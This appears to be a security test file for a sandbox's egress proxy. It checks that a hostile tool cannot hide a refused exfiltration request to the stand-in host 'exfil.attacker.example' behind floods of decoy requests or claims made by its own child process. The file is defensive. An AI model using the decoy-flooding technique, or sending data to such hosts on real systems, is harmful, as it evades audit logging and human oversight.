// Adversary 2 (a hostile tool author) against the record of what the sandbox refused. README
// "Sandboxes": the egress proxy's refusals "are recorded in the parent, whatever the child
// claims". The re-pass found the call's `security_event` kept the first 20 of the call's
// violations and said nothing of the rest (`violations.slice(0, 20)`): a tool that first asked
// for 20 decoy hosts had its real attempt (an exfiltration host, the 21st) refused but missing
// from the audit log. The record is now a tally (src/tools/violation-tally.ts): each distinct
// (capability, target) once with its count, the total, the sandbox's own reports ahead of what
// the child claims and capped apart from them, and what the cap drops counted.
import { rmSync } from 'node:fs';
import { afterAll, expect, it } from 'vitest';
import { IsolatedProcessSandbox } from '../../src/sandbox/index.js';
import { attackJail, runHostileTool } from '../support/attack-targets.js';
import { describeIsolated } from '../support/isolation.js';
import { claimsThenEgress, rawEgress } from './fixtures/repass-probe-tools.js';

const { base, jail } = attackJail('veridex-repass-audit-');
afterAll(() => rmSync(base, { recursive: true, force: true }));

const get = (host: string) =>
  `GET https://${host}/ HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`;

describeIsolated('a hostile tool against the audit record of its refused requests', () => {
  it('cannot push a refused request out of the security event with decoy refusals', async () => {
    const box = new IsolatedProcessSandbox({ jailRoot: jail, timeoutMs: 30_000 });
    const requests: Record<string, string> = {};
    for (let decoy = 1; decoy <= 20; decoy++)
      requests[`decoy${decoy}`] = get(`decoy-${decoy}.invalid`);
    requests.exfiltrate = get('exfil.attacker.example');
    try {
      const { result, securityEvents } = await runHostileTool(box, rawEgress, {
        requests,
        waitMs: 5_000,
      });
      expect(result).toMatchObject({ status: 'success' });
      const answers = JSON.parse((result as { output: { result: string } }).output.result);
      // Every request, the real one included, was refused by the proxy (nothing left the host).
      expect(answers.exfiltrate).toEqual(['HTTP/1.1 403']);
      const recorded = JSON.stringify(securityEvents);
      expect(recorded).toContain('decoy-1.invalid');
      expect(recorded, 'the refused exfiltration host in the audit log').toContain(
        'exfil.attacker.example',
      );
      expect(securityEvents[0]!.payload).toMatchObject({ total: 21 });
    } finally {
      box.close();
    }
  }, 60_000);

  it('cannot hide it behind many repeats of a few decoys, nor behind 60 distinct ones', async () => {
    const box = new IsolatedProcessSandbox({ jailRoot: jail, timeoutMs: 60_000 });
    const requests: Record<string, string> = {};
    for (let repeat = 0; repeat < 100; repeat++) requests[`repeat${repeat}`] = get('same.invalid');
    for (let decoy = 0; decoy < 60; decoy++) requests[`decoy${decoy}`] = get(`d-${decoy}.invalid`);
    requests.exfiltrate = get('exfil.attacker.example');
    try {
      const { result, securityEvents } = await runHostileTool(box, rawEgress, {
        requests,
        waitMs: 5_000,
      });
      expect(result).toMatchObject({ status: 'success' });
      const payload = securityEvents[0]!.payload as {
        violations: Array<{ target: string; count: number }>;
        total: number;
        dropped?: unknown;
      };
      expect(payload.total).toBe(161);
      expect(payload.dropped).toBeUndefined();
      expect(payload.violations).toHaveLength(62);
      expect(payload.violations[0]).toMatchObject({ target: 'https://same.invalid/', count: 100 });
      expect(payload.violations.at(-1)).toMatchObject({
        target: 'https://exfil.attacker.example/',
        count: 1,
      });
    } finally {
      box.close();
    }
  }, 120_000);

  it('cannot crowd the proxy’s refusal out with violations its own process claims', async () => {
    const box = new IsolatedProcessSandbox({ jailRoot: jail, timeoutMs: 60_000 });
    try {
      const { result, securityEvents } = await runHostileTool(box, claimsThenEgress, {
        decoys: 200,
        url: 'https://exfil.attacker.example/',
      });
      expect(result).toMatchObject({ status: 'success' });
      expect(JSON.parse((result as { output: { result: string } }).output.result)).toEqual({
        refused: 200,
        proxy: ['HTTP/1.1 403'],
      });
      const payload = securityEvents[0]!.payload as {
        violations: Array<{ target: string; reportedBy?: string }>;
        total: number;
        dropped?: { distinct: number; count: number };
      };
      // The parent's own report comes first and is not the child's word; the child's 200
      // claims are capped at 64 distinct, the rest counted as dropped.
      expect(payload.violations[0]).toMatchObject({ target: 'https://exfil.attacker.example/' });
      expect(payload.violations[0]!.reportedBy).toBeUndefined();
      expect(payload.violations.slice(1).every((entry) => entry.reportedBy === 'child')).toBe(true);
      expect(payload.violations).toHaveLength(65);
      expect(payload.total).toBe(201);
      expect(payload.dropped).toEqual({ distinct: 136, count: 136 });
    } finally {
      box.close();
    }
  }, 120_000);
});
